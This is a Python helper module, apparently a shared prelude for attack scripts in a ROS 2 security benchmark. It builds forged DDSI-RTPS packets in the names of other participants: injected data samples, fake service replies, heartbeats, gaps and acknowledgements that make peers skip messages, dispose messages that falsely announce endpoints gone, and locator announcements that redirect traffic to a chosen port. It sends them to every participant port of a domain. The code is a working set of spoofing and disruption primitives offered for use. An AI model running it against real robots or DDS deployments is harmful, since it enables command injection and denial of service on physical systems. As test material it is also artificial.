# Put before the text of an attack that says `uses_rtps` in its expected.toml: RTPS as datagrams, in anybody's name.
# Source: DDSI-RTPS 2.2, 9.3.1.2, 9.4.5, 9.6.1 and 9.6.3.
import os
import socket
import struct
import time

PARTICIPANTS = 12  # of a domain, whose ports are tried


def data_message(writer, number, payload):
    """An RTPS message with one sample, as CDR, in the name of the writer with a GUID."""
    now = time.time()
    stamp = struct.pack("<BBHII", 0x09, 0x01, 8, int(now), int(now % 1 * 2**32))
    body = struct.pack("<HH", 0, 16) + bytes(4) + writer[12:16] + struct.pack("<iI", 0, number) + payload
    return header(writer) + stamp + struct.pack("<BBH", 0x15, 0x05, len(body)) + body


def reply_message(server, number, request, payload):
    """An RTPS message with a reply of a service, as CDR, to a request: the GUID of its writer, and its number."""
    client, asked = request
    about = client + struct.pack("<iI", 0, asked)
    body = struct.pack("<HH", 0, 16) + bytes(4) + server[12:16] + struct.pack("<iI", 0, number)
    body += struct.pack("<HH", 0x800F, 24) + about + struct.pack("<HH", 0x83, 24) + about + struct.pack("<HH", 1, 0)
    body += payload
    return header(server) + struct.pack("<BBH", 0x15, 0x07, len(body)) + body


def header(sender):
    """The header of a message of the participant that an endpoint, with this GUID, belongs to."""
    return b"RTPS" + bytes((2, 2, 1, 15)) + sender[:12]


def heartbeat(writer, first, count):
    """A message in the name of a writer: all before the number `first` is gone, and nothing has come since."""
    body = bytes(4) + writer[12:16] + struct.pack("<iIiII", 0, first, 0, first - 1, count)
    return header(writer) + struct.pack("<BBH", 0x07, 0x01, len(body)) + body


def acknowledgement(reader, writer, base, count):
    """A message in the name of a reader: it has got all before the number `base` from a writer."""
    body = reader[12:16] + writer[12:16] + struct.pack("<iIII", 0, base, 0, count)
    return header(reader) + struct.pack("<BBH", 0x06, 0x03, len(body)) + body


def farewell(endpoint, number):
    """A message in the name of the participant of an endpoint: it has gone, with all its endpoints."""
    key = endpoint[:12] + bytes((0, 0, 1, 0xC1))
    parameters = struct.pack("<HH", 0x70, 16) + key + struct.pack("<HH", 0x71, 4) + bytes((0, 0, 0, 3))
    body = struct.pack("<HH", 0, 16) + bytes(4) + bytes((0, 1, 0, 0xC2)) + struct.pack("<iI", 0, number)
    body += parameters + struct.pack("<HH", 1, 0)
    return header(endpoint) + struct.pack("<BBH", 0x15, 0x03, len(body)) + body


def send_to_all(message, discovery=False):
    """Send a datagram to every participant of the domain, on wish to its discovery."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as some:
        for participant in range(PARTICIPANTS):
            port = 7400 + 250 * int(os.environ["ROS_DOMAIN_ID"]) + (10 if discovery else 11) + 2 * participant
            some.sendto(message, ("127.0.0.1", port))


def writer_of(node, topic, **options):
    """The GUID of a publisher on a topic, None if there is none."""
    return next((bytes(info.endpoint_gid[:16]) for info in node.get_publishers_info_by_topic(topic, **options)), None)


def reader_of(node, topic):
    """The GUID of a subscription to a topic, None if there is none."""
    return next((bytes(info.endpoint_gid[:16]) for info in node.get_subscriptions_info_by_topic(topic)), None)


def gap(writer, first, after):
    """A message in the name of a writer: its samples from one number to before another are of no use to anybody."""
    body = bytes(4) + writer[12:16] + struct.pack("<iIiII", 0, first, 0, after, 0)
    return header(writer) + struct.pack("<BBH", 0x08, 0x01, len(body)) + body


def end_of(endpoint, number):
    """A message in the name of the participant of an endpoint: this endpoint is no more; the `number`-th about its kind."""
    about = bytes((0, 0, 3 if endpoint[15] & 0x0F in (2, 3) else 4, 0xC2))
    body = struct.pack("<HH", 0, 16) + bytes(4) + about + struct.pack("<iI", 0, number)
    body += struct.pack("<HH", 0x70, 16) + endpoint[:16] + struct.pack("<HH", 0x71, 4) + bytes((0, 0, 0, 3))
    body += struct.pack("<HH", 1, 0)
    return header(endpoint) + struct.pack("<BBH", 0x15, 0x03, len(body)) + body


def announcement(endpoint, port, number):
    """A message in the name of the participant of an endpoint: from now on it is to be reached at a port."""
    locator = struct.pack("<iI12x4B", 1, port, 127, 0, 0, 1)
    said = [(0x15, bytes((2, 2, 0, 0))), (0x16, bytes((1, 15, 0, 0))), (0x50, endpoint[:12] + bytes((0, 0, 1, 0xC1)))]
    said += [(0x32, locator), (0x31, locator), (0x02, struct.pack("<iI", 100, 0)), (0x58, struct.pack("<I", 0x3F))]
    parameters = b"".join(struct.pack("<HH", name, len(value)) + value for name, value in said) + struct.pack("<HH", 1, 0)
    body = struct.pack("<HH", 0, 16) + bytes(4) + bytes((0, 1, 0, 0xC2)) + struct.pack("<iI", 0, number)
    body += b"\0\3\0\0" + parameters
    return header(endpoint) + struct.pack("<BBH", 0x15, 0x05, len(body)) + body
